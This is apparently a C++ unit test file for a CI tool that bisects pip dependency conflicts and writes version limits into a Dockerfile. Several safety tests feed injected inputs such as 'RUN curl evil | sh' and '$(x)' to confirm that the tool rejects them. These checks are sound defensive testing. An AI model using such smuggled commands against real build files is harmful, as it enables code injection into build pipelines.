#include <support/catch.hpp>
#include <support/helpers.hpp>

#include <breeze/base/redact.hpp>
#include <breeze/commands/ci/bisect_backtracking.hpp>

#include <nlohmann/json.hpp>

#include <algorithm>

using namespace breeze;
using namespace breeze::commands::ci;

TEST_CASE("bisect-backtracking: probe commands are split like a shell, without one",
          "[unit][bisect]") {
  auto w = split_command_line(
      R"(./resolve.sh --reqs {requirements} 'two words' "a \"q\" $x" back\ slash)");
  REQUIRE(w);
  CHECK(*w == std::vector<std::string>{"./resolve.sh", "--reqs", "{requirements}", "two words",
                                       "a \"q\" $x", "back slash"});
  CHECK(substitute_requirements(*w, "a<=1 b<=2")[2] == "a<=1 b<=2");
  CHECK(substitute_requirements({"--r={requirements}"}, "a<=1") ==
        std::vector<std::string>{"--r=a<=1"});
  CHECK_FALSE(split_command_line("echo 'open"));
  CHECK_FALSE(split_command_line("echo \"open"));
}

TEST_CASE("bisect-backtracking: default probe timeout is max(1.5 T, T + 120 s)", "[unit][bisect]") {
  using std::chrono::milliseconds;
  CHECK(default_probe_timeout(milliseconds(480'000)) == milliseconds(720'000)); // 8 min -> 12 min
  CHECK(default_probe_timeout(milliseconds(60'000)) == milliseconds(180'000));  // 1 min -> 3 min
}

TEST_CASE("bisect-backtracking: limits from requirements and from candidates JSON",
          "[unit][bisect]") {
  auto l = parse_limits("aiobotocore<=2.5.4  asana<=3.2.1\n");
  REQUIRE(l);
  REQUIRE(l->size() == 2);
  CHECK((*l)[1].name == "asana");
  CHECK((*l)[1].limit == "asana<=3.2.1");
  CHECK_FALSE(parse_limits("aiobotocore"));
  CHECK_FALSE(parse_limits("aiobotocore<=not-a-version"));
  auto j = limits_from_candidates_json(
      R"({"candidates":[{"name":"aiobotocore","pinned":"2.5.4","latest":"2.6.0","released":"2023-08-11T20:43:19Z"}]})");
  REQUIRE(j);
  CHECK((*j)[0].limit == "aiobotocore<=2.5.4");
  CHECK((*j)[0].latest == "2.6.0");
  CHECK_FALSE(limits_from_candidates_json("{}"));
  CHECK_FALSE(limits_from_candidates_json("not json"));
}

TEST_CASE("bisect-backtracking: conflict lines are picked out of pip's output", "[unit][bisect]") {
  const std::string out =
      "Collecting aiobotocore==2.6.0\n  Downloading aiobotocore-2.6.0.whl\n"
      "ERROR: Cannot install aiobotocore==2.6.0 and botocore==1.31.25 because these package "
      "versions have conflicting dependencies.\n\nThe conflict is caused by:\n"
      "    aiobotocore 2.6.0 depends on botocore<1.31.18 and >=1.31.17\n\x1b[31mdone\x1b[0m\n";
  CHECK(conflict_lines(out) ==
        std::vector<std::string>{
            "ERROR: Cannot install aiobotocore==2.6.0 and botocore==1.31.25 because these package "
            "versions have conflicting dependencies.",
            "The conflict is caused by:",
            "aiobotocore 2.6.0 depends on botocore<1.31.18 and >=1.31.17"});
}

TEST_CASE("bisect-backtracking: Dockerfile.ci edit merges limits and comments them",
          "[unit][bisect]") {
  const std::string before =
      "FROM python\n# keep\nARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"mypy<1.3 "
      "aiobotocore<2.5.0\"\n"
      "ARG OTHER=1\n";
  auto after = add_eager_upgrade_limits(
      before, {{"aiobotocore<2.6.0", "why aio"}, {"asana<4.0.5", "why asana"}});
  REQUIRE(after);
  CHECK(*after == "FROM python\n# keep\n# why aio\n# why asana\n"
                  "ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"mypy<1.3 aiobotocore<2.6.0 "
                  "asana<4.0.5\"\nARG OTHER=1\n");
  // Applying again changes nothing; an empty ARG gets the limit; no ARG is an error.
  CHECK(*add_eager_upgrade_limits(*after, {{"aiobotocore<2.6.0", "why aio"}}) == *after);
  CHECK(*add_eager_upgrade_limits("  ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"\"",
                                  {{"a<2", "c"}}) ==
        "  # c\n  ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"a<2\"");
  CHECK_FALSE(add_eager_upgrade_limits("FROM python\n", {{"a<2", "c"}}));
}

TEST_CASE("bisect-backtracking: in-process with a recording runner, and --dry-run",
          "[unit][bisect]") {
  files::TempDir dir;
  test::InProcess breeze;
  breeze.cwd = dir.path();
  breeze.env["TMPDIR"] = dir.path().string();
  test::ScopedEnv tmp("TMPDIR", dir.path().string());
  breeze.runner.respond = [](const process::ProcessSpec& spec) {
    process::ProcessResult r;
    const auto& reqs = spec.argv.at(2);
    r.exit_code =
        reqs.find("b<=2") != std::string::npos || reqs.find("b==3") != std::string::npos ? 0 : 1;
    return r;
  };
  const std::vector<std::string> base{"ci",
                                      "bisect-backtracking",
                                      "--candidates-file",
                                      "c.json",
                                      "--probe-command",
                                      "probe --reqs {requirements}",
                                      "--probe-timeout",
                                      "5",
                                      "--output",
                                      "json"};
  test::write_file(
      dir.path() / "c.json",
      R"({"candidates":[{"name":"a","pinned":"1","latest":"2"},{"name":"b","pinned":"2","latest":"3"},)"
      R"({"name":"c","pinned":"1","latest":"1.5"}]})");
  REQUIRE(breeze.run(base) == 0);
  auto doc = nlohmann::json::parse(breeze.out.str());
  CHECK(doc["culprits"] == nlohmann::json{"b<=2"});
  CHECK(doc["checks"][0]["verdict"] == "heuristics");
  CHECK(doc["add"] == "b<3");
  CHECK(breeze.runner.calls.front().argv ==
        std::vector<std::string>{"probe", "--reqs", "a<=1 b<=2 c<=1"});
  CHECK(breeze.runner.calls.front().timeout == std::chrono::milliseconds(5000));
  CHECK(breeze.runner.calls.back().argv[2] == "b==3");

  test::InProcess dry;
  dry.cwd = dir.path();
  auto args = base;
  args.push_back("--dry-run");
  CHECK(dry.run(args) == 0);
  CHECK(dry.runner.calls.empty()); // printed, not run
  CHECK_THAT(dry.out.str(), Catch::Contains("probe --reqs 'a<=1 b<=2 c<=1'"));

  test::InProcess bad;
  bad.cwd = dir.path();
  CHECK(bad.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command",
                 "probe"}) == 2);
  CHECK(bad.runner.calls.empty());
}

TEST_CASE(
    "bisect-backtracking: every candidates-file field must be a PEP 508 name or PEP 440 version",
    "[unit][bisect][safety]") {
  auto ok = make_limit("aiobotocore", " 2.5.4\n", "v2.6.0");
  REQUIRE(ok);
  CHECK(ok->limit == "aiobotocore<=2.5.4"); // normalised, whitespace gone
  CHECK(ok->latest == "2.6.0");
  auto injected = make_limit("aiobotocore", "2.5.4", "1.0\nRUN curl evil | sh");
  REQUIRE_FALSE(injected);
  CHECK(injected.error().message ==
        "aiobotocore: latest '1.0RUN curl evil | sh' is not a PEP 440 version");
  CHECK_FALSE(make_limit("aiobotocore", "2.5.4", "2.6.0\" && curl evil"));
  CHECK_FALSE(make_limit("aiobotocore", "2.5.4\nRUN x", "2.6.0"));
  CHECK_FALSE(make_limit("bad name", "1", "2"));
  CHECK_FALSE(make_limit("a\nRUN x", "1", "2"));

  CHECK_FALSE(limits_from_candidates_json(
      R"({"candidates":[{"name":"a","pinned":"1","latest":"1.0\nRUN x"}]})"));
  CHECK_FALSE(
      limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":"1","latest":7}]})"));
  CHECK_FALSE(limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":1}]})"));
  CHECK_FALSE(limits_from_candidates_json(R"([1,2])"));
  auto none =
      limits_from_candidates_json(R"({"candidates":[{"name":"a","pinned":"1","latest":null}]})");
  REQUIRE(none);
  CHECK(none->front().latest.empty());
}

TEST_CASE("bisect-backtracking: the Dockerfile edit refuses anything that could start a line",
          "[unit][bisect][safety]") {
  const std::string file = "ARG EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=\"\"\n";
  CHECK(add_eager_upgrade_limits(file, {{"a<2", "why"}}));
  for (const auto* bad : {"a<1.0\nRUN curl evil | sh", "a<2\" && curl evil", "a<2 b<3", "a", "a<2'",
                          "a===$(x)", "a===`x`", "a<2\r"})
    CHECK_FALSE(add_eager_upgrade_limits(file, {{bad, "why"}}));
  CHECK_FALSE(add_eager_upgrade_limits(file, {{"a<2", "why\nRUN curl evil | sh"}}));
}

TEST_CASE("bisect-backtracking: the report masks tokens and URL userinfo from probe output",
          "[unit][bisect][safety]") {
  files::TempDir dir;
  const std::string token = "ghp_unitSecretToken0123456789";
  redact::clear_secrets();
  redact::add_secret(token);
  test::InProcess breeze;
  breeze.cwd = dir.path();
  breeze.env["TMPDIR"] = dir.path().string();
  breeze.runner.respond = [&](const process::ProcessSpec& spec) {
    process::ProcessResult r;
    const auto& reqs = spec.argv.at(1);
    r.exit_code = reqs.find("b<=2") != std::string::npos ? 0 : 1;
    r.out =
        "ERROR: cannot fetch https://u:" + token + "@pypi.example/simple (token " + token + ")\n";
    return r;
  };
  test::write_file(
      dir.path() / "c.json",
      R"({"candidates":[{"name":"a","pinned":"1","latest":"2"},{"name":"b","pinned":"2","latest":"3"}]})");
  for (const auto* output : {"json", "text"}) {
    breeze.out.str("");
    REQUIRE(
        breeze.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command",
                    "probe {requirements}", "--probe-timeout", "5", "--output", output}) == 0);
    INFO(breeze.out.str());
    CHECK_THAT(breeze.out.str(), Catch::Contains("https://pypi.example/simple"));
    CHECK_THAT(breeze.out.str(), !Catch::Contains(token));
  }
  redact::clear_secrets();
}

TEST_CASE(
    "bisect-backtracking: {requirements...} is one argument per limit, {requirements} one in all",
    "[unit][bisect]") {
  const std::vector<std::string> limits{"aiobotocore<=2.5.4", "boto3<=1.28.17"};
  CHECK(expand_probe_command({"pip", "install", "{requirements...}", "--reqs={requirements}"},
                             limits) ==
        std::vector<std::string>{"pip", "install", "aiobotocore<=2.5.4", "boto3<=1.28.17",
                                 "--reqs=aiobotocore<=2.5.4 boto3<=1.28.17"});
  CHECK(expand_probe_command({"probe", "{requirements}"}, limits) ==
        std::vector<std::string>{"probe", "aiobotocore<=2.5.4 boto3<=1.28.17"});
  CHECK(expand_probe_command({"pip", "{requirements...}"}, {}) == std::vector<std::string>{"pip"});
}

TEST_CASE("bisect-backtracking: the backtracking pattern matches pip's lines, anywhere in a line",
          "[unit][bisect]") {
  auto pattern = compile_backtracking_pattern(k_default_backtracking_pattern);
  REQUIRE(pattern);
  REQUIRE(pattern->has_value());
  const auto& re = **pattern;
  CHECK(matches_backtracking(
      re, "INFO: pip is looking at multiple versions of aiobotocore to determine which "
          "version is compatible with other requirements. This could take a while."));
  CHECK(matches_backtracking(
      re, "#12 41.27 INFO: pip is looking at multiple versions of botocore to determine"));
  CHECK(matches_backtracking(
      re, "INFO: pip is still looking at multiple versions of boto3 to determine"));
  CHECK_FALSE(matches_backtracking(re, "Collecting aiobotocore==2.6.0"));
  CHECK_FALSE(
      matches_backtracking(re, "pip is looking at multiple versions")); // not pip's INFO line
  CHECK_FALSE(matches_backtracking(re, std::string(5000, 'x') +
                                           "INFO: pip is looking at multiple versions of a"));
  auto off = compile_backtracking_pattern("");
  REQUIRE(off);
  CHECK_FALSE(off->has_value());
  auto bad = compile_backtracking_pattern("(unclosed");
  REQUIRE_FALSE(bad);
  CHECK(bad.error().kind == ErrorKind::usage);
}

TEST_CASE("bisect-backtracking: suspects from a candidates file are PEP 508 names of candidates",
          "[unit][bisect][safety]") {
  const std::string candidates =
      R"("candidates":[{"name":"aiobotocore","pinned":"2.5.4","latest":"2.6.0"},)"
      R"({"name":"Boto3","pinned":"1.28.17","latest":"1.28.25"}])";
  auto limits = limits_from_candidates_json("{" + candidates + "}");
  REQUIRE(limits);
  auto s = suspects_from_candidates_json(
      "{" + candidates + R"(,"suspects":["boto3","aiobotocore","boto3","nope"]})", *limits);
  REQUIRE(s);
  CHECK(*s == std::vector<std::size_t>{1, 0}); // PEP 503 match, repeats and non-candidates dropped
  auto none = suspects_from_candidates_json("{" + candidates + "}", *limits);
  REQUIRE(none);
  CHECK(none->empty());
  auto injected = suspects_from_candidates_json(
      "{" + candidates + R"(,"suspects":["aiobotocore\nRUN curl evil | sh"]})", *limits);
  REQUIRE_FALSE(injected);
  CHECK(injected.error().message ==
        "suspect 'aiobotocoreRUN curl evil | sh' is not a valid project name (PEP 508)");
  CHECK_FALSE(
      suspects_from_candidates_json("{" + candidates + R"(,"suspects":"aiobotocore"})", *limits));
  CHECK_FALSE(suspects_from_candidates_json("{" + candidates + R"(,"suspects":[7]})", *limits));
}

TEST_CASE(
    "bisect-backtracking: the top suspect of a candidates file is probed right after the full list",
    "[unit][bisect]") {
  files::TempDir dir;
  test::InProcess breeze;
  breeze.cwd = dir.path();
  breeze.env["TMPDIR"] = dir.path().string();
  breeze.runner.respond = [](const process::ProcessSpec& spec) {
    process::ProcessResult r;
    r.exit_code = std::find(spec.argv.begin(), spec.argv.end(), "c<=1") != spec.argv.end() ||
                          std::find(spec.argv.begin(), spec.argv.end(), "c==1.5") != spec.argv.end()
                      ? 0
                      : 1;
    return r;
  };
  test::write_file(
      dir.path() / "c.json",
      R"({"candidates":[{"name":"a","pinned":"1","latest":"2"},{"name":"b","pinned":"2","latest":"3"},)"
      R"({"name":"c","pinned":"1","latest":"1.5"}], "suspects": ["c", "a"]})");
  REQUIRE(breeze.run({"ci", "bisect-backtracking", "--candidates-file", "c.json", "--probe-command",
                      "pip install {requirements...}", "--probe-timeout", "5", "--output",
                      "json"}) == 0);
  auto doc = nlohmann::json::parse(breeze.out.str());
  CHECK(doc["culprits"] == nlohmann::json{"c<=1"});
  CHECK(doc["probe_count"] == 2);
  CHECK(doc["found_by_suspect"] == true);
  CHECK(doc["suspects"] == nlohmann::json{"c", "a"});
  REQUIRE(breeze.runner.calls.size() == 3);
  CHECK(breeze.runner.calls[0].argv ==
        std::vector<std::string>{"pip", "install", "a<=1", "b<=2", "c<=1"});
  CHECK(breeze.runner.calls[1].argv == std::vector<std::string>{"pip", "install", "c<=1"});
  CHECK(breeze.runner.calls[2].argv == std::vector<std::string>{"pip", "install", "c==1.5"});
  CHECK(doc["probes"][1]["purpose"] == "suspect");
  CHECK(doc["probes"][2]["purpose"] == "check");
}

TEST_CASE(
    "bisect-backtracking: a bad --backtracking-pattern or {requirements...} inside a word is a "
    "usage error before any probe",
    "[unit][bisect]") {
  files::TempDir dir;
  test::write_file(dir.path() / "c.json",
                   R"({"candidates":[{"name":"a","pinned":"1","latest":"2"}]})");
  test::InProcess breeze;
  breeze.cwd = dir.path();
  const std::vector<std::string> base{"ci", "bisect-backtracking", "--candidates-file", "c.json"};
  auto with = [&](std::vector<std::string> extra) {
    auto args = base;
    args.insert(args.end(), extra.begin(), extra.end());
    return breeze.run(args);
  };
  CHECK(with({"--probe-command", "probe {requirements}", "--backtracking-pattern", "(unclosed"}) ==
        2);
  CHECK(with({"--probe-command", "probe --r={requirements...}"}) == 2);
  CHECK(with({"--probe", "nope"}) == 2);
  CHECK(breeze.runner.calls.empty());
}

TEST_CASE(
    "bisect-backtracking: --probe resolve runs the settings' resolve command in the local CI image",
    "[unit][bisect]") {
  config::Settings settings;
  settings.sources_root = "/src/airflow";
  const auto argv = resolve_probe_argv(settings, "docker", "3.11", "linux/arm64");
  CHECK(argv == std::vector<std::string>{"docker", "run", "--rm", "--pull", "never", "--platform",
                                         "linux/arm64", "-v", "/src/airflow:/opt/airflow", "-e",
                                         "EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS={requirements}",
                                         "-e", "PYTHON_MAJOR_MINOR_VERSION=3.11", "--entrypoint",
                                         "/bin/sh",
                                         "ghcr.io/apache/airflow/main/ci/python3.11:latest", "-c",
                                         settings.resolve_command});
  CHECK_THAT(
      settings.resolve_command,
      Catch::Contains(
          "pip install --root-user-action ignore --dry-run --upgrade --upgrade-strategy eager"));
  CHECK_THAT(settings.resolve_command, Catch::EndsWith("${EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS}"));
  CHECK(expand_probe_command(argv, {"a<=1", "b<=2"})[10] ==
        "EAGER_UPGRADE_ADDITIONAL_REQUIREMENTS=a<=1 b<=2");
}
